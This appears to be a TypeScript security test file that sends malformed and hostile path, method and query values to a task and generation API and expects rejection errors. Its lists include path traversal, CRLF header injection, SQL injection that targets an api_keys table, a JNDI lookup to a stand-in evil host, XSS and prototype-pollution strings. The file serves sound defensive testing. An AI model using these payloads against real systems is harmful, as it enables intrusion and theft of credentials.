import { headersOf } from "../../support/client.ts";
import type { HostileCase, Scene } from "../hostile_case.ts";
import { SQL } from "./wrong_values.ts";

const UUID = "11111111-1111-4111-8111-111111111111";

/** Ids that are none, as they stand in a path. */
const IDS = [
  "null",
  "undefined",
  "0",
  "-1",
  "*",
  "%25",
  "%00",
  `${UUID}%00`,
  `${UUID}%20`,
  `%20${UUID}`,
  `{${UUID}}`,
  `urn:uuid:${UUID}`,
  `${UUID},${UUID}`,
  `${UUID}x`,
  `${UUID};drop`,
  UUID.replaceAll("-", ""),
  "00000000-0000-0000-0000-000000000000",
  "..%2f..%2fworker",
  "..%5c..%5cworker",
  "%2e%2e%2fgeneration%2fhealth",
  "%252e%252e%252f",
  "%c0%ae%c0%ae%2f",
  "%zz",
  "%ed%a0%80",
  "%0d%0aSet-Cookie:a=b",
  "🙂",
  encodeURIComponent(SQL),
  encodeURIComponent("' or '1'='1"),
  encodeURIComponent(`${UUID}' union select * from private.api_keys --`),
  encodeURIComponent("${jndi:ldap://evil.example/a}"),
  encodeURIComponent("<script>alert(1)</script>"),
  "__proto__",
  "constructor",
  "x".repeat(5_000),
  // Long, and what looks for secrets in a log line begins again and again.
  "eyJ-".repeat(15_000),
  "Bearer%20".repeat(6_000),
];

const OPERATIONS = [
  "text-to-video",
  "TEXT-TO-IMAGE",
  "text_to_image",
  "text-to-image%00",
  "text-to-image%20",
  "text-to-image;x=1",
  "text-to-image%2f",
  "text-to-image.json",
  "..%2fworker",
  "%2e%2e%2fhealth",
  "%zz",
  "constructor",
  "__proto__",
  "toString",
  "*",
  ":operation",
  encodeURIComponent(SQL),
  "%0d%0aSet-Cookie:a=b",
  "x".repeat(5_000),
];

const NOWHERE = [
  "generation",
  "generation/",
  "generation//text-to-image",
  "generation/text-to-image/",
  "generation/text-to-image/x",
  "generation/availability/",
  "generation/availability/openai",
  "generation/health/x",
  "generation/../tasks-status/x/y",
  "generation/.env",
  "tasks",
  "tasks/",
  `tasks//status`,
  `tasks/${UUID}/`,
  `tasks/${UUID}/status/`,
  `tasks/${UUID}/STATUS`,
  `tasks/${UUID}/requeue`,
  `tasks-status/${UUID}/x`,
  "account/",
  "account/x",
  `account/${UUID}`,
  "worker/x",
];

/** Methods that a route does not have. */
const METHODS: readonly (readonly [method: string, path: string])[] = [
  ["GET", "generation/text-to-image"],
  ["PUT", "generation/text-to-image"],
  ["PATCH", "generation/text-to-image"],
  ["DELETE", "generation/text-to-image"],
  ["POST", "generation/availability"],
  ["DELETE", "generation/availability"],
  ["POST", "generation/health"],
  ["DELETE", "generation/health"],
  ["POST", "generation/openapi.json"],
  ["POST", `tasks/${UUID}/status`],
  ["DELETE", `tasks/${UUID}/status`],
  ["GET", `tasks/${UUID}`],
  ["PUT", `tasks/${UUID}`],
  ["POST", `tasks/${UUID}`],
  ["PATCH", `tasks-status/${UUID}`],
  ["POST", `tasks-status/${UUID}`],
  ["POST", "account"],
  ["PATCH", "account"],
  ["GET", "worker"],
  ["DELETE", "worker"],
];

const SERVICES = [
  "",
  "tripo",
  "OpenAI",
  "openai,tripoai",
  "openai%00",
  "openai%0d%0aSet-Cookie:a=b",
  encodeURIComponent(SQL),
  "__proto__",
  "x".repeat(5_000),
];

const PURGES = [
  "",
  "1",
  "yes",
  "True",
  "true%00",
  "true,false",
  encodeURIComponent(SQL),
  "x".repeat(5_000),
];

const VALID = JSON.stringify({ task_id: "t", provider: "openai", prompt: "x" });

/** Paths that lead nowhere, or try to. */
export function paths(scene: Scene): HostileCase[] {
  const headers = headersOf(scene.caller.token);
  const read = (path: string, error: HostileCase["error"], method = "GET"): HostileCase => ({
    name: `${method} ${path.slice(0, 100)}`,
    method,
    path,
    headers,
    error,
    ...(["POST", "PUT", "PATCH"].includes(method) && { body: () => VALID }),
  });
  return [
    ...IDS.flatMap((id) => [
      read(`tasks/${id}/status`, "not_found"),
      read(`tasks-status/${id}`, "not_found"),
      read(`tasks/${id}`, "not_found", "DELETE"),
      read(`tasks/${id}?purge=true`, "not_found", "DELETE"),
    ]),
    ...OPERATIONS.map((operation) => read(`generation/${operation}`, "not_found", "POST")),
    ...NOWHERE.map((path) => read(path, "not_found", "POST")),
    ...METHODS.map(([method, path]) => read(path, "method_not_allowed", method)),
    ...PURGES.map((value) => read(`tasks/${UUID}?purge=${value}`, "invalid_request", "DELETE")),
    ...SERVICES.map((service) => read(`tasks/${UUID}/status?service=${service}`, "not_found")),
  ];
}
